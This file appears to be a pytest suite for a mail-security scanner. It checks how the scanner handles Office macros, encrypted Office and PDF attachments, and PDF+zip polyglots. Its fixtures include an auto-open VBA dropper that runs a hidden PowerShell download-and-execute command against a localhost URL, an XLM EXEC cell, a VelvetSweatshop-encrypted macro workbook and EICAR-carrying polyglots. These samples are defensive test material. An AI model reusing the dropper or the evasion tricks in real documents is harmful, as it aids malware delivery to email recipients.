"""Macro policy per direction, encrypted Office and PDF documents, and PDF+zip polyglots."""

from __future__ import annotations

import hashlib
import io

import pikepdf
import pytest

from mailward.config import PolicySettings
from mailward.evidence import Category, Evidence
from mailward.policy import decide
from mailward.verdict import Action
from support.mail import EICAR
from support.mail import mime_mail as message
from support.unpack import names_at, ooxml, vba_project, zipped

POLICY = PolicySettings()

DROPPER = """Sub Auto_Open()
    Set shell = CreateObject("WScript.Shell")
    shell.Run "powershell -w hidden -c iwr http://127.0.0.1/p.ps1 | iex"
End Sub
"""
AUTO_ONLY = """Sub Workbook_Open()
    Sheets(1).Range("A1").Value = Date
End Sub
"""
CLICK = """Sub Action_Click()
    MsgBox "Next slide"
End Sub
"""
PLAIN = """Sub FormatTable()
    Selection.Font.Bold = True
End Sub
"""
IOC_ONLY = """Sub Document_Open()
    Range("A1").Value = "http://127.0.0.1/update/invoice.exe"
End Sub
"""


def pptm(vba: bytes) -> bytes:
    content_types = (
        b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        b'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
    )
    return zipped(
        {"[Content_Types].xml": content_types, "ppt/presentation.xml": b"<presentation/>", "ppt/vbaProject.bin": vba}
    )


def encrypted(parts: dict[str, bytes], kind: str, password: str) -> bytes:
    """An agile-encrypted OOXML package (an OLE file with EncryptionInfo and EncryptedPackage), as Office writes.

    A thumbnail pads the package past 4 KiB: msoffcrypto-tool 6.1 writes the streams of smaller
    packages into the wrong directory entries.
    """
    from msoffcrypto.format.ooxml import OOXMLFile

    thumbnail = b"".join(hashlib.sha512(bytes([i])).digest() for i in range(100))
    document = ooxml(kind, dict(parts, **{"docProps/thumbnail.jpeg": thumbnail}))
    out = io.BytesIO()
    OOXMLFile(io.BytesIO(document)).encrypt(password, out)
    return out.getvalue()


def actions(evidence: Evidence) -> tuple[Action, Action]:
    return decide(evidence, POLICY.inbound, "MW-1").action, decide(evidence, POLICY.outbound, "MW-1").action


def macro_names(evidence: Evidence) -> set[str]:
    return {f.name for f in evidence.findings if f.category in (Category.MACRO, Category.MALWARE)}


def test_powerpoint_action_click_is_quarantined_inbound_and_tagged_outbound(scan):
    _, evidence = scan(message(attachments=[("deck.pptm", pptm(vba_project(CLICK)))]))
    assert "vba-autoexec" in macro_names(evidence)
    assert "vba-autoexec-suspicious" not in macro_names(evidence)
    assert actions(evidence) == (Action.QUARANTINE, Action.TAG)


def test_workbook_open_is_quarantined_inbound(scan):
    book = ooxml("xlsm", {"xl/vbaProject.bin": vba_project(AUTO_ONLY)})
    _, evidence = scan(message(attachments=[("book.xlsm", book)]))
    assert "vba-autoexec" in macro_names(evidence)
    assert actions(evidence) == (Action.QUARANTINE, Action.TAG)


def test_auto_exec_that_only_runs_its_own_macros_is_not_malware(scan):
    source = 'Sub Workbook_Open()\n    Application.Run "RefreshPivots"\nEnd Sub\n'
    _, evidence = scan(message(attachments=[("kpi.xlsm", ooxml("xlsm", {"xl/vbaProject.bin": vba_project(source)}))]))
    assert "vba-autoexec" in macro_names(evidence) and "vba-autoexec-suspicious" not in macro_names(evidence)


def test_macro_without_auto_exec_only_tags(scan):
    table = ooxml("docm", {"word/vbaProject.bin": vba_project(PLAIN)})
    _, evidence = scan(message(attachments=[("table.docm", table)]))
    assert macro_names(evidence) == {"vba-macros"}
    assert actions(evidence) == (Action.TAG, Action.TAG)


def test_auto_exec_with_create_object_and_run_is_malware(scan):
    _, evidence = scan(message(attachments=[("inv.xlsm", ooxml("xlsm", {"xl/vbaProject.bin": vba_project(DROPPER)}))]))
    [malicious] = [f for f in evidence.findings if f.name == "vba-autoexec-suspicious"]
    assert malicious.category is Category.MALWARE and "CreateObject" in malicious.detail
    assert actions(evidence)[0] is Action.REJECT
    # Outbound the macro alone quarantines (YARA's download-and-execute rule may still reject).
    only_macro = Evidence(findings=(malicious,))
    assert decide(only_macro, POLICY.outbound, "MW-1").action is Action.QUARANTINE


def test_auto_exec_with_an_ioc_is_malware(scan):
    _, evidence = scan(message(attachments=[("a.docm", ooxml("docm", {"word/vbaProject.bin": vba_project(IOC_ONLY)}))]))
    [malicious] = [f for f in evidence.findings if f.name == "vba-autoexec-suspicious"]
    assert "invoice.exe" in malicious.detail
    assert actions(evidence)[0] is Action.REJECT


def test_xlm_macro_sheet_quarantines_and_exec_is_malware(scan):
    quiet = b"<xm:macrosheet><sheetData><row><c><f>SUM(A1:A3)</f></c></row></sheetData></xm:macrosheet>"
    _, evidence = scan(message(attachments=[("b.xlsm", ooxml("xlsm", {"xl/macrosheets/sheet1.xml": quiet}))]))
    assert macro_names(evidence) == {"xlm-macros"} and actions(evidence)[0] is Action.QUARANTINE
    loud = b'<xm:macrosheet><sheetData><row><c><f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>'
    _, evidence = scan(message(attachments=[("b.xlsm", ooxml("xlsm", {"xl/macrosheets/sheet1.xml": loud}))]))
    assert "xlm-autoexec-suspicious" in macro_names(evidence) and actions(evidence)[0] is Action.REJECT


def test_macro_actions_are_configurable_per_direction(scan):
    from dataclasses import replace

    _, evidence = scan(message(attachments=[("deck.pptm", pptm(vba_project(CLICK)))]))
    strict = replace(POLICY.outbound, macro_action_autoexec=Action.QUARANTINE)
    assert decide(evidence, strict, "MW-1").action is Action.QUARANTINE


# ---- encrypted documents --------------------------------------------------------------------


def test_velvetsweatshop_workbook_with_auto_open_dropper_is_decrypted_and_found(scan):
    book = encrypted({"xl/vbaProject.bin": vba_project(DROPPER)}, "xlsm", "VelvetSweatshop")
    parsed, evidence = scan(message(attachments=[("invoice.xlsm", book)]))
    assert next(o for o in parsed.objects if o.path == "invoice.xlsm").sniffed_type == "application/encrypted"
    assert "encrypted" not in names_at(evidence)
    assert "encrypted-opened" in names_at(evidence, "invoice.xlsm")
    assert "vba-autoexec-suspicious" in names_at(evidence, "invoice.xlsm > decrypted document > xl/vbaProject.bin")
    assert actions(evidence)[0] is Action.REJECT


def test_encrypted_document_opens_with_the_password_from_the_message(scan):
    book = encrypted({"xl/vbaProject.bin": vba_project(AUTO_ONLY)}, "xlsm", "Rk7-2291")
    _, evidence = scan(message(body="Open it with password: Rk7-2291\n", attachments=[("q3.xlsm", book)]))
    assert "vba-autoexec" in macro_names(evidence) and "encrypted" not in names_at(evidence)


def test_encrypted_document_without_password_is_unchecked(scan):
    book = encrypted({}, "docx", "nobody-knows-this")
    _, evidence = scan(message(attachments=[("secret.docx", book)]))
    [locked] = [f for f in evidence.findings if f.name == "encrypted"]
    assert locked.category is Category.UNCHECKED and locked.location == "secret.docx"
    assert actions(evidence)[0] is Action.QUARANTINE


def _pdf(user: str, owner: str = "owner-pw", attach: bytes | None = None) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    if attach is not None:
        stream = pikepdf.Stream(pdf, attach)
        spec = pdf.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Filespec,
                F=pikepdf.String("e.com"),
                UF=pikepdf.String("e.com"),
                EF=pikepdf.Dictionary(F=stream),
            )
        )
        pdf.Root.Names = pikepdf.Dictionary(
            EmbeddedFiles=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("e.com"), spec]))
        )
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(user=user, owner=owner, R=6))
    return out.getvalue()


def test_pdf_with_owner_password_only_opens_silently(scan):
    _, evidence = scan(message(attachments=[("form.pdf", _pdf("", attach=EICAR))]))
    assert "mailward/malware:EICAR_Test_File" in {f.name for f in evidence.findings} or any(
        f.category is Category.MALWARE and f.location == "form.pdf > e.com" for f in evidence.findings
    )
    assert "encrypted" not in names_at(evidence)


def test_pdf_with_user_password_from_the_message_or_unchecked(scan):
    locked = _pdf("Zq81-pass", attach=EICAR)
    _, opened = scan(message(body="password: Zq81-pass\n", attachments=[("a.pdf", locked)]))
    assert any(f.category is Category.MALWARE and f.location == "a.pdf > e.com" for f in opened.findings)
    _, closed = scan(message(attachments=[("a.pdf", locked)]))
    assert "encrypted" in names_at(closed, "a.pdf")


# ---- polyglots -----------------------------------------------------------------------------


def _plain_pdf() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


@pytest.mark.parametrize(
    "build",
    [
        pytest.param(lambda pdf, z: pdf + z, id="appended"),
        pytest.param(lambda pdf, z: pdf.replace(b"%%EOF", b"%" + z + b"\n%%EOF"), id="embedded"),
        pytest.param(lambda pdf, z: pdf[:200] + z, id="broken-pdf"),
    ],
)
def test_pdf_zip_polyglot_is_scanned_as_both(scan, build):
    data = build(_plain_pdf(), zipped({"eicar.com": EICAR}))
    parsed, evidence = scan(message(attachments=[("statement.pdf", data)]))
    assert next(o for o in parsed.objects if o.path == "statement.pdf").sniffed_type == "application/pdf"
    assert "polyglot" in names_at(evidence, "statement.pdf")
    assert any(
        f.category is Category.MALWARE and f.location == "statement.pdf > polyglot zip > eicar.com"
        for f in evidence.findings
    )
